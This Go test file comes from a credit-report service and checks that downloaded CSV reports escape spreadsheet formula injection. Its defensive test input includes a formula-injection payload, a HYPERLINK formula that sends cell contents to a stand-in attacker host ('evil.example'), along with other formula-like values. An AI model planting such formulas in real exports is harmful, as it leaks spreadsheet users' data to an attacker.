package creditrpc_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/minzhengtong/minzhengtong/bff/bfftest"
	"github.com/minzhengtong/minzhengtong/domains/actor"
	"github.com/minzhengtong/minzhengtong/domains/calendar"
	"github.com/minzhengtong/minzhengtong/domains/entdb"
	"github.com/minzhengtong/minzhengtong/domains/entdb/entdbtest"
	"github.com/minzhengtong/minzhengtong/domains/upstream"
	pb "github.com/minzhengtong/minzhengtong/gen/proto/minzhengtong/credit/v1"
)

// TestTableComputesNothing: a source, or somebody who wrote something into it, cannot make a
// spreadsheet compute: the table has all facts, in the reader's script, and no cell of words
// begins as a formula does.
func TestTableComputesNothing(t *testing.T) {
	t.Parallel()
	entdbtest.Each(t, func(t *testing.T, db *entdb.DB) {
		s, p := bfftest.New(t, db, bfftest.Options{}), bfftest.Person(0)
		s.Settle(t, p)
		s.Officer(t, "desk", actor.Accept)
		known(s, p)
		const evil = `=HYPERLINK("http://evil.example/"&A1,"未公示")`
		s.Sandbox.SetCreditFacts("penalties", p.Passes[0].Number, []upstream.CreditFact{{Reference: "@SUM(1)", Day: calendar.On(s.Now()), Fields: []upstream.CreditField{
			{Name: "authority", Kind: upstream.CreditText, Text: "＝1+1"}, {Name: "cause", Kind: upstream.CreditText, Text: evil},
			{Name: "amount", Kind: upstream.CreditMoney, Number: 100_000}, {Name: "state", Kind: upstream.CreditCode, Text: "open"},
		}}})
		me := s.Clients(s.Holder(t, p.Passes[0].Number), "zh-Hant-TW")
		_, err := me.Credit.ObtainReport(t.Context(), &pb.ObtainReportRequest{ConsentId: authorise(t, s, me, all...)})
		must(t, "obtain", err)
		got, err := me.Credit.DownloadReport(t.Context(), &pb.DownloadReportRequest{})
		must(t, "download", err)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(got.GetContent()), "\ufeff"))).ReadAll()
		must(t, "read the table", err)
		if rows[0][0] != "來源" || got.GetMediaType() != "text/csv; charset=utf-8" {
			t.Errorf("the table begins with %q", rows[0])
		}
		found := map[string]bool{}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@") || strings.HasPrefix(cell, "＝") {
					t.Errorf("a cell begins with %q", cell)
				}
				found[cell] = true
			}
		}
		for _, want := range []string{"'@SUM(1)", "'＝1+1", "100000", "食品經營許可證", "已答覆"} {
			if !found[want] {
				t.Errorf("no cell is %q", want)
			}
		}
	})
}
